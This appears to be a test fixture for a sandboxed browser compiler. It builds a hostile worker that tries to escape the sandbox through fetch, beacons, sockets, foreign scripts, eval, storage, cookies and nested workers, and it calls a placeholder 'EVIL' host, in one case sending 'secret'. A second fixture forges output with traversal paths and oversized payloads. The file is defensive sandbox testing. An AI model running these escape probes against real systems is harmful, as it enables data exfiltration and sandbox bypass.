/**
 * What a project tries once it has taken over the compiler: each name with an expression that would
 * be an escape. It runs in place of the compiler, so only the policy of the frame can stop it.
 */
const attempts: Record<string, string> = {
  fetch: `(await fetch('EVIL/fetch', { mode: 'no-cors' })).type`,
  'fetch of the site itself': `(await fetch('SITE/', { mode: 'no-cors' })).type`,
  'a request of the old kind': `await new Promise((resolve, reject) => {
    const request = new XMLHttpRequest();
    request.onload = () => resolve('loaded');
    request.onerror = () => reject(new Error('refused'));
    request.open('GET', 'EVIL/xhr');
    request.send();
  })`,
  'a socket': opened(`new WebSocket('EVIL/socket'.replace('http', 'ws'))`),
  'events from a server': opened(`new EventSource('EVIL/events')`),
  'a transport': `await new WebTransport('EVIL/transport'.replace('http', 'https')).ready`,
  'a connection between browsers': `new RTCPeerConnection()`,
  'a beacon': `navigator.sendBeacon('EVIL/beacon', 'secret')`,
  'a script of another origin': `importScripts('EVIL/script.js') ?? 'loaded'`,
  'a script of the site': `importScripts('SITE/assets/page.js') ?? 'loaded'`,
  'a script of its own': `importScripts(URL.createObjectURL(new Blob(['self.ran = 1']))) ?? 'ran'`,
  'a module': `await import('EVIL/module.js')`,
  'a font': `(await new FontFace('E', 'url(EVIL/font.woff2)').load()).status`,
  'code from a string': `(0, eval)('1')`,
  'a function from a string': `Function('return 1')()`,
  'a timer from a string': `await new Promise((resolve, reject) => {
    self.ran = () => resolve('ran');
    setTimeout('ran()');
    setTimeout(() => reject(new Error('refused')), 100);
  })`,
  'a database': `await new Promise((resolve, reject) => {
    const opening = indexedDB.open('hacked');
    opening.onsuccess = () => resolve('open');
    opening.onerror = () => reject(new Error('refused'));
  })`,
  // In WebKit opaque origins have caches of their own.
  'caches of the page': `await caches.open('hacked') && (await caches.has('kept')) && 'open'`,
  'files of the origin': `await navigator.storage.getDirectory()`,
  'a lock of the origin': `await navigator.locks.request('hacked', () => 'locked')`,
  'a service worker': `await navigator.serviceWorker.register('/sw.js')`,
  'storage of the page': `localStorage.length + sessionStorage.length`,
  cookies: `await cookieStore.getAll()`,
  'a shared worker': `new SharedWorker('SITE/assets/page.js')`,
  'a worker of the site': `await nest(() => 'SITE/assets/page.js')`,
  'a worker without a policy': `await nest(() => 'data:text/javascript,postMessage(1)')`,
  // A nested worker has the same policy.
  'a worker of its own': `await nest(() => URL.createObjectURL(new Blob([
    "fetch('EVIL/nested', { mode: 'no-cors' }).then(() => postMessage('fetched'), () => close())",
  ])))`,
};

function opened(made: string): string {
  return `await new Promise((resolve, reject) => {
    const opened = ${made};
    opened.onopen = () => resolve('open');
    opened.onerror = () => reject(new Error('refused'));
  })`;
}

/** A channel reaches other contexts of the same origin, and there should be none. */
const greetings = `new BroadcastChannel('playground').postMessage('ESCAPED');`;

/** A script that reports to the page what it could do, only through the port. */
export function writeHostileWorker(site: string, evil: string): string {
  const tries = Object.entries(attempts).map(
    ([name, code]) => `[${JSON.stringify(name)}, async () => ${code}]`,
  );
  return `
const nest = (url) => new Promise((resolve, reject) => {
  const worker = new Worker(url());
  worker.onmessage = ({ data }) => resolve(data);
  worker.onerror = () => reject(new Error('refused'));
  setTimeout(() => reject(new Error('silence')), 500);
});
const tries = [${tries.join(',\n')}];
addEventListener('message', async ({ ports: [port] }) => {
  port.postMessage('ready');
  ${greetings}
  const escaped = [];
  for (const [name, attempt] of tries) {
    try {
      const result = await attempt();
      if (result !== false) escaped.push(name + ': ' + result);
    } catch {}
  }
  port.postMessage(JSON.stringify({ origin: self.origin, tried: tries.length, escaped }));
});`
    .replaceAll('EVIL', evil)
    .replaceAll('SITE', site);
}

/**
 * A compiler that a project has taken over: it counts the projects it has compiled, and after the
 * first it forges the tree of a file.
 */
export const takenOver = `
let compiled = 0;
addEventListener('message', ({ ports: [port] }) => {
  const answer = (value) => port.postMessage(JSON.stringify(value));
  port.onmessage = ({ data: { id, files, parse } }) => {
    if (parse) return answer({ id, parsed: { tree: { forged: compiled > 0 } } });
    compiled += 1;
    const [{ name, code }] = files;
    const long = 'x'.repeat(1e6);
    if (code === 'twice') answer({ id, compiled: {}, css: 'first' });
    if (code === 'structure') return port.postMessage({ id, compiled: {}, css: 'structure' });
    if (code === 'bomb') return port.postMessage('"' + 'x'.repeat(2e7) + '"');
    if (code === 'another') return answer({ id: id + 1, compiled: {}, css: 'another' });
    answer({
      id,
      css: 'project ' + compiled,
      compiled: { files: [{ name, js: { toString: 1 } }, { name: 'package.json', js: long }], rules: Array(20000).fill({ css: long.slice(0, 50) }) },
      problems: [{ file: '../secret', line: 1, column: 1, message: 'lies', tool: 'babel' }, { file: name, line: -4, column: 'x', message: long, tool: 'stylex' }],
      modules: [{ name, code: 'ok', importMark: 'import-0123456789abcdef:', imports: [{ file: 'a', more: long }] }, { name, code: 'no', importMark: '(', imports: [] }, { name: 'other.ts', code: '' }],
    });
  };
  port.postMessage('ready');
});`;
